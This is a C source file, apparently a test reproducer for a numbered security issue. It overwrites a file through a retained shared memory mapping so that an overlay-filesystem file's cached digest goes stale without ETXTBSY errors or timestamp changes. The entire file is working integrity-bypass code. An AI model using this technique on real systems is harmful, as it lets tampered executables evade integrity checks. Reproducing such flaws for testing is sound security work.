// Poisons a cached digest the way issue 12 describes: keeps a MAP_SHARED writable mapping
// of a file whose descriptor it closed. The overlay file then has no writer (so exec of it
// is not refused with ETXTBSY) while the real upper file has one, and writes into pages
// that are already dirty move neither mtime nor ctime. Built static. Driven by files:
//   mapwrite FILE PAYLOAD CTL
//     opens FILE O_RDWR (an image file is copied up unchanged), maps it shared, closes the
//     fd, rewrites every page with its own bytes (dirty, content unchanged), creates
//     CTL/mapped; on CTL/rewrite copies PAYLOAD (zero-padded) over the mapping and creates
//     CTL/rewritten; on CTL/unmap unmaps, creates CTL/unmapped and exits.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

static const char* ctl;

static void signal_done(const char* name) {
  char path[4096];
  snprintf(path, sizeof path, "%s/%s", ctl, name);
  close(open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644));
}

static void wait_for(const char* name) {
  char path[4096];
  snprintf(path, sizeof path, "%s/%s", ctl, name);
  while (access(path, F_OK) != 0) usleep(10000);
}

static int fail(const char* what) {
  perror(what);
  return 1;
}

int main(int argc, char** argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: mapwrite FILE PAYLOAD CTL\n");
    return 2;
  }
  ctl = argv[3];
  int fd = open(argv[1], O_RDWR);
  if (fd < 0) return fail("open FILE");
  struct stat st;
  if (fstat(fd, &st) != 0) return fail("fstat FILE");
  size_t size = (size_t)st.st_size;
  unsigned char* map = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
  if (map == MAP_FAILED) return fail("mmap FILE");
  close(fd);
  unsigned char* original = malloc(size);
  if (original == NULL) return fail("malloc");
  memcpy(original, map, size);
  memcpy(map, original, size);  // every page dirty, the content as it was
  signal_done("mapped");

  wait_for("rewrite");
  int payload = open(argv[2], O_RDONLY);
  if (payload < 0) return fail("open PAYLOAD");
  memset(original, 0, size);
  ssize_t n = read(payload, original, size);
  if (n <= 0 || (size_t)n == size) {
    fprintf(stderr, "PAYLOAD must be smaller than FILE\n");
    return 1;
  }
  close(payload);
  memcpy(map, original, size);  // pages already dirty: no fault, no new timestamps
  signal_done("rewritten");

  wait_for("unmap");
  munmap(map, size);
  signal_done("unmapped");
  return 0;
}
